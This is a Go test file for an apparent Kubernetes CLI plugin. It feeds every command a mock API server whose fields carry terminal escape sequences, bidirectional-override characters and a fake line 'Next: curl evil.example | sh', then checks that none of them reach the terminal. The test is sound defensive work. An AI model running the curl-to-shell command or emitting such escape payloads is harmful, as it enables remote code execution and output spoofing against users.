// Copyright The Windlass Authors.
// SPDX-License-Identifier: Apache-2.0

package plugin

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"k8s.io/client-go/rest"
)

// evil is what an attacker writes into fields of objects: it sets a title, clears the screen, moves the cursor, turns the direction of
// writing, and begins a line that looks like one of the plugin.
const evil = "evil\x1b]0;owned\x07\x1b[2J\x1b[1;1H\u009b31m\x7f\r\n\nNext: curl evil.example | sh\n\u202eabc"

// hostile answers requests for objects whose texts are all evil.
type hostile struct {
	// refuses is true if it answers with an error instead.
	refuses bool
	// warning is what it warns of.
	warning string
}

func (h hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	if h.warning != "" {
		w.Header().Add("Warning", "299 - \""+h.warning+"\"")
	}
	var answer any
	switch found := h.answer(r.URL.Path, r.URL.Query().Get("watch") != ""); {
	case h.refuses:
		w.WriteHeader(http.StatusInternalServerError)
		answer = map[string]any{"kind": "Status", "apiVersion": "v1", "status": "Failure", "message": evil, "reason": evil, "code": http.StatusInternalServerError}
	case found == nil:
		w.WriteHeader(http.StatusNotFound)
		answer = map[string]any{
			"kind": "Status", "apiVersion": "v1", "status": "Failure", "message": evil, "reason": "NotFound", "code": http.StatusNotFound,
			"details": map[string]any{"name": evil, "kind": evil},
		}
	default:
		answer = found
	}
	_ = json.NewEncoder(w).Encode(answer) //nolint:errchkjson // because a client that gets no answer fails the test
}

// answer returns the object or the list at a path, nil for none.
func (hostile) answer(path string, watch bool) any {
	if watch {
		return nil
	}
	parts := strings.Split(strings.Trim(path, "/"), "/")
	for _, k := range kinds() {
		at := slices.Index(parts, k.plural)
		if at < 0 || k.gvk.Group != "" && parts[1] != k.gvk.Group {
			continue
		}
		one := evilObject(k)
		if at == len(parts)-1 {
			return map[string]any{
				"kind": k.gvk.Kind + "List", "apiVersion": k.gvk.GroupVersion().String(), "metadata": map[string]any{"resourceVersion": "7"}, "items": []any{one},
			}
		}
		return one
	}
	switch parts[len(parts)-1] {
	case "events":
		return map[string]any{"kind": "EventList", "apiVersion": "v1", "items": []any{map[string]any{
			"metadata": map[string]any{"name": "a"}, "reason": "FailedMount", "message": evil, "lastTimestamp": "2026-01-01T00:00:00Z",
		}}}
	case "web-log":
		return map[string]any{"kind": "ConfigMap", "apiVersion": "v1", "metadata": map[string]any{
			"name": "web-log", "labels": map[string]any{"clusterprovisioner.rke.io/cluster-uid": "1"},
		}, "data": map[string]any{"log": evil}}
	}
	return nil
}

// evilObject returns an object of the kind.
func evilObject(k *kind) map[string]any {
	condition := func(name, value string) any {
		return map[string]any{
			"type": name, "status": value, "reason": evil, "message": evil, "observedGeneration": 2, "lastTransitionTime": "2026-01-01T00:00:00Z",
		}
	}
	metadata := map[string]any{
		"name": "web", "uid": "1", "resourceVersion": "5", "generation": 2, "creationTimestamp": "2026-01-01T00:00:00Z",
		"labels": map[string]any{"a": evil, evil: evil}, "annotations": map[string]any{"b": evil, evil: evil}, "finalizers": []any{evil},
		"managedFields": []any{map[string]any{
			"manager": evil, "operation": "Update", "fieldsType": "FieldsV1", "fieldsV1": map[string]any{"f:metadata": map[string]any{"f:labels": map[string]any{"f:a": map[string]any{}}}},
		}},
	}
	if k.namespaced {
		metadata["namespace"] = "team"
	}
	spec := map[string]any{
		"nodeName": "", "schedulerName": evil, "nodeSelector": map[string]any{"a": evil}, "nodePool": evil, "schedule": evil,
		"taints":  []any{map[string]any{"key": evil, "value": evil, "effect": "NoSchedule"}},
		"volumes": []any{map[string]any{"name": "a", "persistentVolumeClaim": map[string]any{"claimName": evil}}},
	}
	if k.ours || k.plural == "nodes" {
		delete(spec, "nodeSelector")
	}
	return map[string]any{
		"apiVersion": k.gvk.GroupVersion().String(), "kind": k.gvk.Kind, "metadata": metadata, "spec": spec,
		"status": map[string]any{
			"observedGeneration": 2, "phase": evil, "reason": evil, "message": evil, "selector": "a=b",
			"plan":              map[string]any{"id": evil, "summary": evil},
			"lastOperation":     map[string]any{"id": evil, "action": evil, "stage": evil},
			"pods":              []any{map[string]any{"name": evil, "state": evil, "message": evil}},
			"containerStatuses": []any{map[string]any{"name": evil, "state": map[string]any{"waiting": map[string]any{"reason": evil, "message": evil}}}},
			"conditions": []any{
				condition("Ready", "False"), condition("Stalled", "True"), condition("PodScheduled", "False"), condition("ReplicaFailure", "True"),
				condition("Failed", "True"), condition("SafetyBrake", "True"), condition("Progressing", "False"),
			},
		},
	}
}

// TestAttackTerminalEscapes: whatever fields of objects and answers of the API server say, it does not steer the terminal, and does not
// pass for a line of the plugin.
func TestAttackTerminalEscapes(t *testing.T) {
	t.Parallel()
	var calls []string
	for _, k := range kinds() {
		calls = append(calls, "status "+k.plural, "status "+k.plural+" -o wide", "status "+k.plural+"/web", "why "+k.plural+"/web", "why "+k.plural+"/web -v",
			"why "+k.plural+"/web -o json", "status "+k.plural+" -o json", "status "+k.plural+" -o name")
		if k.ours {
			calls = append(calls, "pause "+k.plural+"/web -v --dry-run=client")
		}
	}
	calls = append(calls, "status", "status -o yaml", "why node/web --pool web -v", "why node/web --label a", "why node/web --annotation b", "top machines -o wide",
		"top pools", "top nodes", "approve cluster/web --dry-run=client", "acknowledge nodepool/web --dry-run=client", "power on vm/web --dry-run=client -v",
		"logs cluster/web", "kubeconfig web", "status nodes/gone")
	for _, refuses := range []bool{false, true} {
		// Go refuses answers with control characters of ASCII in a header.
		server := httptest.NewServer(hostile{refuses: refuses, warning: "evil\u009b31m\u202eabc"})
		t.Cleanup(server.Close)
		config := kubeconfigFor(t, &rest.Config{Host: server.URL}, "team")
		for _, call := range calls {
			for name, with := range map[string]options{
				"a terminal": {width: 120, env: map[string]string{"NO_COLOR": "1", "LANG": "C.UTF-8"}}, "a pipe": {},
			} {
				got := run(t, with, append([]string{"--kubeconfig", config}, strings.Fields(call)...)...)
				said := got.out + got.err
				what := fmt.Sprintf("%s on %s, refused %t", call, name, refuses)
				if said == "" {
					t.Errorf("%s: it says nothing", what)
				}
				if showsAll := strings.HasSuffix(call, "/web -v") && !strings.Contains(call, "set"); showsAll && !refuses && !strings.Contains(said, "evil") {
					t.Errorf("%s: nothing of the object is shown:\n%s", what, said)
				}
				if at := strings.IndexFunc(said, commands); at >= 0 {
					t.Errorf("%s: %q", what, said[max(0, at-60):min(len(said), at+20)])
				}
				if strings.Contains(said, "\nNext: curl") || strings.HasPrefix(got.err, "Next: curl") {
					t.Errorf("%s: it looks like an advice of the plugin:\n%s", what, said)
				}
			}
		}
	}
}

// commands reports whether a terminal does something else than to show the letter.
func commands(r rune) bool {
	return r != '\n' && r != '\t' && (r < ' ' || r >= 0x7f && r < 0xa0 || r >= 0x202a && r <= 0x202e)
}
